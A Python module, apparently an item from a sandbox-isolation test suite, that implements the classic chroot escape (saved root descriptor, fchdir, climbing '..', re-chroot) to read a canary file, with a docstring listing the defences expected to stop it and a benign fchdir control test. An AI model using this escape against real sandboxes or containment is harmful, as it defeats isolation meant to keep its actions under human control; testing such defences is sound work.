"""Climb out of the root directory with chroot.

Technique: the classic one: keep a descriptor of a directory outside, chroot into one below, go back by fchdir, climb up with
    "..", which now meets no root to stop at. Needs CAP_SYS_CHROOT.
Success: the canary file is read, or chroot is allowed at all.
Stopped by: seccomp, no_capabilities, root_filesystem
"""


def attack():
    def child():
        os.makedirs("/work/jail", exist_ok=True)
        outside = os.open("/", os.O_RDONLY)
        syscall("chroot", b"/work/jail")
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        syscall("chroot", b".")
        try:
            with open(canary["file"]) as file:
                return f"read {file.read()}"
        except FileNotFoundError:
            return "chroot was allowed, but led no further out"

    return forked(child)


def twin():
    """Going back to a directory by its descriptor."""
    before = os.open(".", os.O_RDONLY)
    os.chdir("/usr")
    os.fchdir(before)
    assert os.getcwd() == "/work"
    os.close(before)
